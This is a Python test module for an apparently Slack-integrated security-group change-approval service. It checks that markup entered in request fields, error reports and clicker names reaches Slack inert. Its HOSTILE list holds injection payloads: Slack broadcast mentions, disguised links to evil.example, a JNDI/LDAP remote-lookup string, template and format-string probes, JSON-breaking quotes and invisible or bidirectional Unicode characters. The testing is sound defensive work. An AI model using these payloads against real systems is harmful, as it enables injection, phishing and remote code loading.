"""Markup through every field that somebody outside can fill, all the way to what Slack is sent.

That each message builder keeps text inert is tested in ``tests/shared/slack``; here the text goes in where an attacker
puts it: into a filed request, an error report, a click.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from shared.domain.change import Modification, make_change
from shared.domain.request import Request
from shared.domain.rule import Rule, Source, cidr, make_rule
from shared.wire.messages import AppliedMessage, ErrorMessage
from tests.shared.slack.test_messages_safety import assert_inert, assert_sound
from tests.support.central_account import ADA, APPROVER, Central, make_request

HOSTILE = (
    "<!channel> <!here> <!everyone>",
    "<@U061F7AUR> <#C024BE91L> <!subteam^SAZ94GDB8>",
    "<https://evil.example|Approve here> https://evil.example evil.example mailto:eve@evil.example",
    "*bold* _it_ ~no~ `code` ```block``` > quote\n• item",
    "&lt;!channel&gt; &amp;lt; <!date^0^{date}|x>",
    "@channel @here :tada: :skull:",
    "first\nsecond\r\nthird\x0bfourth\x85fifth\u2028sixth",
    "\u202e/0.0.0.0\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad",
    "\x1b[31mred\x1b]8;;https://evil.example\x07 \x00\x08\x7f",
    '", "type": "mrkdwn", "text": "<!channel>',
    "{{7*7}} ${jndi:ldap://evil.example/x} %s %n {0}",
    "\U000e0041\U000e0042 \u115f\u3164\uffa0 \u2800",
    "<" * 300,
    "&" * 3000,
)


def rule(**values: Any) -> Rule:
    """Return a rule; values the builder would refuse are set afterwards."""
    made = make_rule(direction="ingress", protocol="tcp", from_port=22, to_port=22, source=cidr("0.0.0.0/0"))
    return replace(made, **values)


def adding(**values: Any) -> Request:
    """Return a request that adds such a rule."""
    return make_request(change=make_change(added=[rule(**values)]))


FIELDS: dict[str, Callable[[str], Request]] = {
    "requester's name": lambda text: make_request(requester=replace(ADA, name=text)),
    "requester's ARN": lambda text: make_request(requester=replace(ADA, arn=text)),
    "requester's role": lambda text: make_request(requester=replace(ADA, principal_arn=text)),
    "requester's type": lambda text: make_request(requester=replace(ADA, type=text)),
    "requester's account": lambda text: make_request(requester=replace(ADA, account=text)),
    "invokedBy": lambda text: make_request(requester=replace(ADA, invoked_by=text)),
    "account's name": lambda text: make_request(account_name=text),
    "group's name": lambda text: make_request(group_name=text),
    "group's id": lambda text: make_request(group_id=text),
    "call": lambda text: make_request(event_name=text),
    "request's id": lambda text: make_request(text[:255]),
    "reason": lambda text: make_request(reason=text),
    "reason of a denial": lambda text: make_request(reason=text, status="denied"),
    "reason of an unreverted one": lambda text: make_request(reason=text, status="unreverted", remaining=(rule(),)),
    "reason of an observed one": lambda text: make_request(reason=text, status="observed"),
    "description": lambda text: adding(description=text),
    "tag's key": lambda text: adding(tags=((text, "x"),)),
    "tag's value": lambda text: adding(tags=(("x", text),)),
    "rule's id": lambda text: adding(rule_id=text),
    "prefix list": lambda text: adding(source=Source(kind="prefix_list", value=text)),
    "referenced group": lambda text: adding(source=Source(kind="group", value=text, account="1")),
    "name of a referenced group": lambda text: adding(source=Source(kind="group", value=f"name:{text}")),
    "owner of a referenced group": lambda text: adding(source=Source(kind="group", value="sg-1", account=text)),
    "peering": lambda text: adding(source=Source(kind="group", value="sg-1", account="1", peering=text)),
    "removed description": lambda text: make_request(change=make_change(removed=[rule(description=text)])),
    "edited description": lambda text: make_request(
        change=make_change(modified=[Modification(before=rule(), after=rule(description=text))])
    ),
    "remaining description": lambda text: make_request(status="unreverted", remaining=(rule(description=text),)),
}


def assert_all_inert(central: Central) -> None:
    """Check every message Slack got: within its limits, nothing active in it but markup of our own."""
    assert central.slack.posts
    for post in central.slack.posts:
        assert_sound(post.payload)
        assert_inert(post.payload)


@pytest.mark.parametrize("field", FIELDS)
def test_nothing_a_member_account_files_is_active_in_slack(central: Central, field: str) -> None:
    """Each field that comes from outside, with each kind of markup, from the filed request to its result."""
    for number, text in enumerate(HOSTILE):
        request = FIELDS[field](text)
        if field != "request's id":
            request = replace(request, request_id=f"r-{number}")
        central.file(request)
        if request.status == "pending":
            assert central.click(request).status == 200
            report = AppliedMessage(
                request_id=request.request_id,
                digest=request.digest,
                account=request.account,
                region=request.region,
                applied_at=datetime.now(UTC),
            )
            central.deliver(report)
            assert central.status(request.request_id) == "applied"
    assert_all_inert(central)


@pytest.mark.parametrize("field", ["code", "reason"])
def test_nothing_in_an_error_report_is_active_in_slack(central: Central, field: str) -> None:
    """Codes and sentences of a member account, genuine or not, are text."""
    for number, text in enumerate(HOSTILE):
        request = central.file(make_request(f"r-{number}"))
        central.click(request)
        report = ErrorMessage(
            request_id=request.request_id,
            digest=request.digest,
            account=request.account,
            region=request.region,
            code="InvalidPermission.Duplicate",
            reason="It is there.",
            failed_at=datetime.now(UTC),
        )
        central.deliver(replace(report, **{field: text}), to="errorHandlerSecurityGroupChange")
        central.click(request)  # whoever comes late is told the code
    assert_all_inert(central)


@pytest.mark.parametrize("action", ["approve", "deny"])
def test_nothing_in_the_name_of_who_clicks_is_active_in_slack(central: Central, action: str) -> None:
    """People choose their names in Slack; a name neither mentions nor formats, for whoever reads it."""
    for number, text in enumerate(HOSTILE):
        request = central.file(make_request(f"r-{number}"))
        user = {"id": APPROVER, "username": text[:200], "team_id": "T0001"}
        for _ in range(2):
            assert central.click(request, action, user=user).status == 200
    central.sweep(minutes=6)
    assert_all_inert(central)
